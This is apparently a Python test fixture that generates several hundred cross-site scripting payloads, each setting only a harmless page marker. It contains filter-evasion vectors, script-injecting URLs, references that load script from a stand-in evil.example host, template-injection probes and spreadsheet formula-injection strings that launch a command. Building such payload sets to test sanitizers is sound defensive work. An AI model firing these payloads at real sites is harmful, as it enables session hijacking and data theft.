"""Script payloads: each, if it ran anywhere, would set a mark in its page. Made from vectors and the ways to hide them.

After OWASP's filter evasion list and PortSwigger's cheat sheet: elements that run by themselves, handlers, addresses
with scripts in them, ways out of an attribute, a comment, a script block, JSON, CSS, a template; and their spellings.
"""

from itertools import product

MARK = "window.__ran"
_RUN = f"{MARK}=1"

_ELEMENTS = (
    "<script>{run}</script>",
    "<script src=data:text/javascript,{run}></script>",
    "<script type=module>{run}</script>",
    "<img src=x onerror={run}>",
    "<img src=x onerror='{run}'/>",
    '<img src="x" onerror="{run}">',
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{run}'><text y=20>a</text></a></svg>",
    "<body onload={run}>",
    "<body onpageshow={run}>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}>",
    "<textarea autofocus onfocus={run}>",
    "<details open ontoggle={run}>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}>",
    "<iframe src='javascript:{run}'></iframe>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<object data='data:text/html,<script>{run}</script>'></object>",
    "<embed src='javascript:{run}'>",
    "<math href='javascript:{run}'>a</math>",
    "<marquee onstart={run}>a</marquee>",
    "<form><button formaction='javascript:{run}'>a</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<base href='javascript:{run}//'>",
    "<link rel=stylesheet href='data:text/css,*{{}}' onload={run}>",
    "<style onload={run}></style>",
    "<style>@import 'javascript:{run}';</style>",
    "<div style='background:url(javascript:{run})'>a</div>",
    "<table background='javascript:{run}'><tr><td>a</td></tr></table>",
    "<template><script>{run}</script></template><script>{run}</script>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'></noscript>",
    "<a href='javascript:{run}' autofocus onfocus={run}>a</a>",
    "<x onfocus={run} tabindex=1 autofocus>a</x>",
    "<img src=x:x onerror={run}//",
    "<isindex type=image src=1 onerror={run}>",
    "<picture><source srcset=x><img src=x onerror={run}></picture>",
    "<portal src='javascript:{run}'></portal>",
)
_WAYS_OUT = (
    "",
    '">',
    "'>",
    "-->",
    "]]>",
    "</script>",
    "</title>",
    "</textarea>",
    '"}}]}}</script>',
    "</style>",
    "*/",
    "`;",
)
_ADDRESSES = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    " javascript:{run}",
    "java\tscript:{run}",
    "java\nscript:{run}",
    "\x01javascript:{run}",
    "javascript&colon;{run}",
    "&#106;avascript:{run}",
    "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19yYW49MTwvc2NyaXB0Pg==",
    "vbscript:{run}",
    "//evil.example/x.js",
    "\\\\evil.example\\x.js",
    "https:evil.example",
    "feed:javascript:{run}",
)
_OTHERS = (
    "{{{{7*7}}}}",
    "{{% raw %}}{{{{ config }}}}",
    "${{{run}}}",
    "#{{{run}}}",
    "<%= {run} %>",
    "';{run};'",
    '";{run};"',
    "\\';{run};//",
    "</mark><script>{run}</script><mark>",
    "<mark onmouseover={run}>환불</mark>",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "%3Cscript%3E{run}%3C/script%3E",
    "\u003cscript\u003e{run}\u003c/script\u003e",
    "＜script＞{run}＜/script＞",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<<script>{run}//<</script>",
    "<script\x0c>{run}</script>",
    "<ScRiPt>{run}</sCrIpT>",
    "<svg/onload={run}>",
    '<img src="x"\x00 onerror={run}>',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "환불<b>굵게</b>\u2028{run}\u2029",
)


def payloads() -> tuple[str, ...]:
    """At least 300, none twice."""
    out = [way + element for element, way in product(_ELEMENTS, _WAYS_OUT[:7])]
    out += [way + _ELEMENTS[0] for way in _WAYS_OUT]
    out += [*_ADDRESSES, *_OTHERS]
    return tuple(dict.fromkeys(payload.format(run=_RUN) for payload in out))


def addresses() -> tuple[str, ...]:
    return tuple(address.format(run=_RUN) for address in _ADDRESSES)
